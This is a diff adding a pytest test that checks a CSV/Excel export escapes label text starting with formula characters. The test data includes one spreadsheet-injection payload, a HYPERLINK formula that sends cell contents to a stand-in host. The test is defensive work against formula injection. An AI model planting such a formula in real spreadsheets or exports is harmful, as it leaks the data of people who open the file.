@@ -36,3 +36,23 @@ def test_no_media_still_gives_the_columns(tmp_path):
         assert write_sheets(iter([empty]), csv, handle) == 1
     assert csv.getvalue().strip() == "media_id"
     assert list(pd.read_excel(path)) == ["media_id"]
+
+
+def test_text_that_would_run_as_a_formula_is_text_in_both_files(tmp_path):
+    """A reviewer's typed label `=HYPERLINK(...)` became a live formula in photos.xlsx and sat
+    raw in photos.csv (issue 37, item 5)."""
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://x.example/?leak="&A2,"open")'
+    chunk = pd.DataFrame(
+        {"final_label": [hostile, "fox", "@SUM(1)", "-2+3"], "animal_count": [1, 2, -1, 0]}
+    )
+    csv, xlsx = io.StringIO(), tmp_path / "photos.xlsx"
+    write_sheets([chunk], csv, xlsx)
+    rows = csv.getvalue().splitlines()
+    assert rows[1].startswith("\"'=HYPERLINK(") and rows[3] == "'@SUM(1),-1"
+    assert rows[4] == "'-2+3,0" and rows[2] == "fox,2"  # numbers stay numbers
+    sheet = load_workbook(xlsx)["photos"]
+    cell = sheet["A2"]
+    assert cell.data_type == "s" and cell.value == hostile  # the exact text, not a formula
+    assert sheet["B4"].value == -1
